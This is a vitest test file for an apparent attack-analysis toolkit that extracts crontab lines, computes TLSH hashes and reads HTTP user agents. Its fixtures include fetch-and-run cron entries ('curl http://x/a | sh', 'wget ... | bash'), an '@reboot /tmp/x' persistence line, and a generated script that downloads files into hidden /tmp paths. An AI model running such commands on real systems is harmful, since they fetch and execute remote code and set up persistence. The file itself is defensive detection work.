import hash from 'tlsh';
import { describe, expect, test } from 'vitest';
import { cronLinesIn } from './cron-lines.ts';
import { tlshOf } from './tlsh.ts';
import { userAgentIn } from './user-agent.ts';

describe('crontab lines', () => {
  test.for([
    ['\n\n*/2 * * * *\troot   curl http://x/a | sh\n\n', ['*/2 * * * * root curl http://x/a | sh']],
    ['REDIS0009\xfa\n@reboot /tmp/x\n', ['@reboot /tmp/x']],
    ['0 3 1,15 * 1-5 /usr/bin/backup', ['0 3 1,15 * 1-5 /usr/bin/backup']],
    [
      Buffer.from('*/5 * * * * wget -q -O- http://x/b | bash').toString('base64'),
      ['*/5 * * * * wget -q -O- http://x/b | bash'],
    ],
    ['1 2 3 4 5', []],
    ['the 5 of us', []],
    ['* * * *', []],
  ] as const)('%j', ([text, lines]) => {
    expect(cronLinesIn(text)).toEqual(lines);
  });

  test('takes its time in proportion to hostile text', () => {
    expect(cronLinesIn(`${'* '.repeat(500_000)}\n`)).toEqual([]);
    expect(cronLinesIn('* * * * * x\n'.repeat(100_000))).toEqual(['* * * * * x']);
  });
});

describe('TLSH', () => {
  const script = Array.from(
    { length: 60 },
    (_, at) => `curl -fsSL http://198.51.100.${at}/a${at * 7919}.sh -o /tmp/.x${at}\n`,
  ).join('');

  test('is that of the library, with the version before it', () => {
    expect(tlshOf(script)).toBe(`T1${hash(script)}`);
  });

  test('is none of text that is short or has no variety', () => {
    expect([tlshOf('short'), tlshOf('a'.repeat(5_000)), tlshOf('x'.repeat(300_000))]).toEqual([
      undefined,
      undefined,
      undefined,
    ]);
  });
});

test('user agents of HTTP on the port', () => {
  expect(
    userAgentIn('GET / HTTP/1.1\r\nHost: x\r\nuser-agent: Mozilla/5.0 \u001b[2Jzgrab/0.x\r\n\r\n'),
  ).toEqual(['Mozilla/5.0 \\x1b[2Jzgrab/0.x']);
  expect(userAgentIn('GET / HTTP/1.1\r\n\r\n')).toEqual([]);
});
